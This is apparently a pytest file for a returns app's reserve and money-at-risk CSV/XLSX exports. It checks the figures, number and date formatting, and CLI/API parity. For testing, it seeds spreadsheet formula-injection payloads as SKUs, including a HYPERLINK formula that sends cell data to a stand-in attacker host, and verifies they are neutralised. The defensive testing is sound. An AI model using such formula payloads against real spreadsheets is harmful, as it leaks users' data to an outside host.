"""The reserve and money at risk as CSV and XLSX: the same figures as the JSON report,
amounts and counts as numbers, days as dates, text that can never run as a formula or
break the file; and the CLI writes the same files as the API (both databases)."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

from returnguard.cli import app
from returnguard.kit.db import Database
from returnguard.ledger import exports, reports
from tests.conftest import Api
from tests.ledger.conftest import money, noon, ok, pay_refund, walk_return

RESERVE = "/api/v1/reports/reserve"
AT_RISK = "/api/v1/reports/money-at-risk"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"x")'
# SKUs someone else typed: formulas as OWASP lists them, a bell and U+FFFF (not in XML).
HOSTILE = [FORMULA, "@SUM(A1)", "-2+3", "+1", "BELL\x07ODD\uffffSKU"]
SKUS = ["TENT", *HOSTILE]
TODAY = datetime.now(UTC).date()


def _neutral(text: str) -> str:
    """What a CSV cell must read: a leading apostrophe before a formula."""
    return "'" + text if text[:1] in ("=", "+", "-", "@", "\t", "\r") else text


def _xml(text: str) -> str:
    return text.replace("\x07", "\ufffd").replace("\uffff", "\ufffd")


@pytest.fixture
def shop(api: Api, db: Database) -> None:
    """One EUR order 10 days ago of 2 x each SKU at 50.00 (TENT: 2 x 80.00); one unit of
    each refunded 3 days ago, goods not back. One USD order 45 days ago, refunded 40 days
    ago, goods not back, with no USD rate: left out of the EUR figures and listed."""
    api.channel()
    api.channel("shopify-us", currency="USD", country="US")
    lines = [
        {
            "external_id": f"item-{i}",
            "sku": sku,
            "title": f"title {i}",
            "quantity": 2,
            "unit_price": money("80.00" if sku == "TENT" else "50.00"),
        }
        for i, sku in enumerate(SKUS)
    ]
    ordered = TODAY - timedelta(days=10)
    order = api.order(
        "302-7777777-0000001",
        ordered_at=f"{ordered}T10:00:00+00:00",
        delivered_at=f"{ordered + timedelta(days=2)}T10:00:00+00:00",
        captured=money(str(Decimal("80.00") * 2 + Decimal("50.00") * 2 * len(HOSTILE))),
        lines=lines,
    )
    ret = ok(
        api.post(
            "/api/v1/returns",
            {
                "order_id": order["id"],
                "decide": False,
                "lines": [
                    {"order_line_id": ln["id"], "quantity": 1, "reason_code": "changed_mind"}
                    for ln in order["lines"]
                ],
            },
        ),
        201,
    )
    walk_return(api, ret, [("approve", {"note": "checked by hand"})])
    pay_refund(
        db,
        api.tenant.organization_id,
        ret,
        [
            {"line": i, "quantity": 1, "item": 8000 if ln["sku"] == "TENT" else 5000}
            for i, ln in enumerate(ret["lines"])
        ],
        settled_at=noon(TODAY - timedelta(days=3)),
    )
    old = TODAY - timedelta(days=45)
    us = api.order(
        "US-1",
        channel="shopify-us",
        currency="USD",
        quantity=1,
        price="30.00",
        ordered_at=f"{old}T10:00:00+00:00",
        delivered_at=f"{old + timedelta(days=2)}T10:00:00+00:00",
    )
    us_ret = api.open_return(us)
    walk_return(api, us_ret, [("approve", {"note": "checked by hand"})])
    pay_refund(
        db,
        api.tenant.organization_id,
        us_ret,
        [{"line": 0, "quantity": 1, "item": 3000}],
        settled_at=noon(TODAY - timedelta(days=40)),
        currency="USD",
    )


def _get(api: Api, path: str, format: str, **params: Any) -> Any:
    r = api.get(path, params={"as_of": TODAY.isoformat(), "format": format, **params})
    assert r.status_code == 200, r.text
    return r


def _csv(api: Api, path: str) -> list[list[str]]:
    r = _get(api, path, "csv")
    assert r.headers["content-type"] == "text/csv; charset=utf-8"
    name = "reserve" if path == RESERVE else "money-at-risk"
    assert r.headers["content-disposition"] == f'attachment; filename="{name}-{TODAY}.csv"'
    return list(csv.reader(io.StringIO(r.text)))


def _book(api: Api, path: str) -> Any:
    r = _get(api, path, "xlsx")
    assert r.headers["content-type"] == XLSX
    assert r.headers["content-disposition"].endswith(f'-{TODAY}.xlsx"')
    return load_workbook(io.BytesIO(r.content))


def _number(cell: Any) -> Decimal:
    assert cell.data_type == "n" and isinstance(cell.value, int | float), cell.value
    return Decimal(str(cell.value))


def _text(cell: Any) -> str:
    assert cell.data_type == "s", (cell.coordinate, cell.value)  # never a formula
    assert isinstance(cell.value, str)
    return cell.value


# --- reserve ------------------------------------------------------------------------------


def test_reserve_csv_carries_the_json_figures_and_neutralises_skus(api: Api, shop: None) -> None:
    report = ok(api.get(RESERVE, params={"as_of": TODAY.isoformat()}))
    rows = _csv(api, RESERVE)
    assert rows[0] == [
        "sku",
        "units_sold",
        "units_returned",
        "return_rate",
        "rate_low",
        "rate_high",
        "loss_per_return",
        "reserve_per_unit",
        "units_sold_hold",
        "reserve",
        "currency",
    ]
    body, total = rows[1:-1], rows[-1]
    assert len(report["rows"]) == len(SKUS) + 1  # with the USD order's SKU
    assert [line[0] for line in body] == [_neutral(r["sku"]) for r in report["rows"]]
    for line, r in zip(body, report["rows"], strict=True):
        assert line[1:] == [
            str(r["units_sold"]),
            str(r["units_returned"]),
            r["return_rate"],
            r["rate_low"],
            r["rate_high"],
            r["loss_per_return"]["amount"],
            r["reserve_per_unit"]["amount"],
            str(r["units_sold_hold"]),
            r["reserve"]["amount"],
            "EUR",
        ]
    tent = next(line for line in body if line[0] == "TENT")
    # 2 sold, 1 returned: Wilson upper bound 0.905471 x 80.00 lost = 72.44 per unit sold.
    assert tent[1:4] == ["2", "1", "0.500000"] and tent[5:8] == ["0.905471", "80.00", "72.44"]
    assert tent[9] == "144.88"
    assert "'" + FORMULA in [line[0] for line in body]
    assert "'@SUM(A1)" in [line[0] for line in body] and "'-2+3" in [line[0] for line in body]
    assert total == [
        "TOTAL",
        "13",
        "7",
        "",
        "",
        "",
        "",
        "",
        "12",  # the USD order is older than the 30 days held for
        report["total_reserve"]["amount"],
        "EUR",
    ]
    assert report["missing_rates"][0]["what"] == "entry"


def test_reserve_xlsx_has_numbers_and_text_that_stays_text(api: Api, shop: None) -> None:
    report = ok(api.get(RESERVE, params={"as_of": TODAY.isoformat()}))
    book = _book(api, RESERVE)
    assert book.sheetnames == ["Reserve", "Missing rates"]
    sheet = book["Reserve"]
    rows = list(sheet.iter_rows())
    assert [c.value for c in rows[0]][:3] == ["sku", "units_sold", "units_returned"]
    body = rows[1:-1]
    assert [_text(line[0]) for line in body] == [_xml(r["sku"]) for r in report["rows"]]
    for line, r in zip(body, report["rows"], strict=True):
        assert _number(line[1]) == r["units_sold"] and _number(line[2]) == r["units_returned"]
        for cell, rate in zip(line[3:6], ("return_rate", "rate_low", "rate_high"), strict=True):
            assert _number(cell) == Decimal(r[rate]) and cell.number_format == "0.000000"
        for cell, field in zip(
            (line[6], line[7], line[9]),
            ("loss_per_return", "reserve_per_unit", "reserve"),
            strict=True,
        ):
            assert _number(cell) == Decimal(r[field]["amount"])
            assert cell.number_format == "#,##0.00"  # EUR: two decimals
        assert _text(line[10]) == "EUR"
    assert FORMULA in [line[0].value for line in body]  # shown as typed, not evaluated
    assert "BELL\ufffdODD\ufffdSKU" in [line[0].value for line in body]
    total = rows[-1]
    assert _text(total[0]) == "TOTAL"
    assert _number(total[9]) == Decimal(report["total_reserve"]["amount"])
    missing = list(book["Missing rates"].iter_rows(values_only=True))
    assert missing[0] == ("what", "id", "currency", "day", "amount")
    assert missing[1][0] == "entry" and missing[1][2] == "USD"
    assert missing[1][3] == datetime.combine(TODAY - timedelta(days=40), datetime.min.time())
    assert Decimal(str(missing[1][4])) == Decimal("-30")


# --- money at risk ------------------------------------------------------------------------


def test_money_at_risk_csv_carries_the_buckets_and_every_refund_line(api: Api, shop: None) -> None:
    report = ok(api.get(AT_RISK, params={"as_of": TODAY.isoformat()}))
    rows = _csv(api, AT_RISK)
    assert rows[0] == [
        "kind",
        "age",
        "refunds",
        "not_received_units",
        "not_received",
        "not_inspected_units",
        "not_inspected",
        "currency",
        "settled_on",
        "age_days",
        "sku",
        "refund_id",
        "return_id",
        "return_line_id",
    ]
    buckets = [line for line in rows if line[0] == "bucket"]
    assert [line[1:8] for line in buckets] == [
        [
            b["age"],
            str(b["refunds"]),
            str(b["not_received_units"]),
            b["not_received"]["amount"],
            str(b["not_inspected_units"]),
            b["not_inspected"]["amount"],
            "EUR",
        ]
        for b in report["buckets"]
    ]
    assert buckets[0][1:5] == ["0-7", "1", "6", "330.00"]  # 80.00 + 5 x 50.00
    [total] = [line for line in rows if line[0] == "total"]
    assert total[4] == report["total_not_received"]["amount"] == "330.00"  # USD left out
    assert total[6] == report["total_not_inspected"]["amount"]
    items = [line for line in rows if line[0] == "refund_line"]
    assert [line[0] for line in rows] == ["kind"] + ["bucket"] * 5 + ["total"] + [
        "refund_line"
    ] * len(items)
    assert len(items) == len(report["items"]) == len(SKUS) + 1
    for line, i in zip(items, report["items"], strict=True):
        assert line[1:] == [
            i["age"],
            "",
            str(i["not_received_units"]),
            i["not_received"]["amount"],
            str(i["not_inspected_units"]),
            i["not_inspected"]["amount"],
            i["not_received"]["currency"],
            i["settled_on"],
            str(i["age_days"]),
            _neutral(i["sku"]),
            i["refund_id"],
            i["return_id"],
            i["return_line_id"],
        ]
    oldest = items[0]
    assert oldest[1] == "31-60" and oldest[4:8] == ["30.00", "0", "0.00", "USD"]
    assert "'" + FORMULA in [line[10] for line in items]


def test_money_at_risk_xlsx_has_numbers_dates_and_safe_text(api: Api, shop: None) -> None:
    report = ok(api.get(AT_RISK, params={"as_of": TODAY.isoformat()}))
    book = _book(api, AT_RISK)
    assert book.sheetnames == ["Money at risk", "Refunds at risk", "Missing rates"]
    buckets = list(book["Money at risk"].iter_rows())
    assert [c.value for c in buckets[0]] == [
        "age",
        "refunds",
        "not_received_units",
        "not_received",
        "not_inspected_units",
        "not_inspected",
        "currency",
    ]
    for line, b in zip(buckets[1:6], report["buckets"], strict=True):
        assert _text(line[0]) == b["age"]
        assert _number(line[1]) == b["refunds"]
        assert _number(line[3]) == Decimal(b["not_received"]["amount"])
        assert line[3].number_format == "#,##0.00"
    assert _text(buckets[6][0]) == "TOTAL"
    assert _number(buckets[6][3]) == Decimal("330.00")
    lines = list(book["Refunds at risk"].iter_rows())
    assert [c.value for c in lines[0]][:7] == [
        "age",
        "not_received_units",
        "not_received",
        "not_inspected_units",
        "not_inspected",
        "currency",
        "settled_on",
    ]
    assert len(lines) - 1 == len(report["items"])
    for line, i in zip(lines[1:], report["items"], strict=True):
        assert _number(line[2]) == Decimal(i["not_received"]["amount"])
        assert line[6].is_date and line[6].value.date() == date.fromisoformat(i["settled_on"])
        assert line[6].number_format == "yyyy-mm-dd"
        assert _number(line[7]) == i["age_days"]
        assert _text(line[8]) == _xml(i["sku"])
        assert _text(line[9]) == i["refund_id"]
    assert FORMULA in [line[8].value for line in lines[1:]]
    missing = list(book["Missing rates"].iter_rows(values_only=True))
    assert [m[0] for m in missing[1:]] == ["refund"] and missing[1][2] == "USD"


def test_an_unknown_format_is_a_problem_naming_it(api: Api) -> None:
    for path in (RESERVE, AT_RISK):
        r = api.get(path, params={"format": "pdf"})
        assert r.status_code == 422, r.text
        assert r.json()["errors"][0]["field"] == "format"


def test_control_characters_and_leading_tabs_are_neutralised_in_both_files() -> None:
    """Cells the API cannot take in but an import can: a leading tab or carriage return,
    NUL and the other C0 controls, U+FFFF."""
    skus = ["\tTAB", "\rCR", "NUL\x00x\x1fy", "\uffff", "plain"]
    rows = [reports.ReserveRow(sku, units_sold=10, units_returned=1) for sku in skus]
    report = reports.ReserveReport(TODAY, 180, 30, "JPY", rows, [])
    cells = list(csv.reader(io.StringIO("".join(exports.reserve_csv(report)))))
    assert [line[0] for line in cells[1:-1]] == [
        "'\tTAB",
        "'\rCR",
        "NUL\x00x\x1fy",
        "\uffff",
        "plain",
    ]
    assert cells[1][9] == "0"  # JPY has no decimals
    out = io.BytesIO()
    exports.write_reserve_xlsx(report, out)
    sheet = load_workbook(io.BytesIO(out.getvalue()))["Reserve"]
    texts = [row[0].value for row in sheet.iter_rows(min_row=2, max_row=6)]
    # Text cells, never formulas; XML reads a carriage return back as a line feed.
    assert texts == ["\tTAB", "\nCR", "NUL\ufffdx\ufffdy", "\ufffd", "plain"]
    assert {row[0].data_type for row in sheet.iter_rows(min_row=2, max_row=6)} == {"s"}
    assert sheet.cell(row=2, column=10).number_format == "#,##0"


# --- the CLI writes what the API serves ---------------------------------------------------

runner = CliRunner()


def cli(db: Database, *args: str) -> Any:
    result = runner.invoke(app, [*args, "--database-url", db.url])
    if result.exception is not None and not isinstance(result.exception, SystemExit):
        raise result.exception
    return result


def _values(data: bytes | Path) -> dict[str, list[tuple[Any, ...]]]:
    source = io.BytesIO(data) if isinstance(data, bytes) else data
    book = load_workbook(source)
    return {name: list(book[name].iter_rows(values_only=True)) for name in book.sheetnames}


@pytest.mark.parametrize(("command", "path"), [("reserve", RESERVE), ("money-at-risk", AT_RISK)])
def test_cli_files_and_json_are_the_api_s(
    api: Api, db: Database, shop: None, tmp_path: Path, command: str, path: str
) -> None:
    csv_file, xlsx_file = tmp_path / "report.csv", tmp_path / "report.xlsx"
    org = str(api.tenant.organization_id)
    day = ["--as-of", TODAY.isoformat()]
    result = cli(
        db, "report", command, "--org", org, *day, "--csv", str(csv_file), "--xlsx", str(xlsx_file)
    )
    assert result.exit_code == 0, result.output
    assert f"wrote {csv_file}" in result.stdout and f"wrote {xlsx_file}" in result.stdout
    assert "left out, no USD->EUR rate" in result.output
    assert csv_file.read_bytes() == _get(api, path, "csv").content
    assert _values(xlsx_file) == _values(_get(api, path, "xlsx").content)
    result = cli(db, "report", command, "--org", org, *day, "--json")
    assert result.exit_code == 0, result.output
    assert json.loads(result.stdout) == _get(api, path, "json").json()


def test_cli_reserve_table_on_the_terminal(api: Api, db: Database, shop: None) -> None:
    org = str(api.tenant.organization_id)
    result = cli(db, "report", "reserve", "--org", org, "--as-of", TODAY.isoformat())
    assert result.exit_code == 0, result.output
    lines = result.stdout.splitlines()
    assert lines[0].split()[:3] == ["sku", "units_sold", "units_returned"]
    tent = next(line.split() for line in lines if line.startswith("TENT"))
    assert tent == [
        "TENT",
        "2",
        "1",
        "0.500000",
        "0.094529",
        "0.905471",
        "80.00",
        "72.44",
        "2",
        "144.88",
        "EUR",
    ]
    assert lines[-1].split()[0] == "TOTAL"


def test_cli_money_at_risk_buckets_on_the_terminal(api: Api, db: Database, shop: None) -> None:
    org = str(api.tenant.organization_id)
    result = cli(db, "report", "money-at-risk", "--org", org, "--items")
    assert result.exit_code == 0, result.output
    lines = [line.split() for line in result.stdout.splitlines()]
    assert lines[1] == ["0-7", "1", "6", "330.00", "0", "0.00", "EUR"]
    assert lines[6] == ["TOTAL", "1", "6", "330.00", "0", "0.00", "EUR"]
    assert any(line[:3] == ["31-60", "1", "30.00"] and "USD" in line for line in lines[8:])


def test_cli_report_errors_exit_2(api: Api, db: Database) -> None:
    org = str(api.tenant.organization_id)
    result = cli(db, "report", "reserve", "--org", org, "--lookback-days", "20")
    assert result.exit_code == 2
    assert "--hold-days: must not be longer than --lookback-days" in result.output
    missing = "00000000-0000-0000-0000-000000000001"
    for command in ("reserve", "money-at-risk"):
        result = cli(db, "report", command, "--org", missing)
        assert result.exit_code == 2
        assert f"organization {missing} not found" in result.output
    result = cli(db, "report", "money-at-risk", "--org", org, "--as-of", "yesterday")
    assert result.exit_code == 2 and "--as-of" in result.output
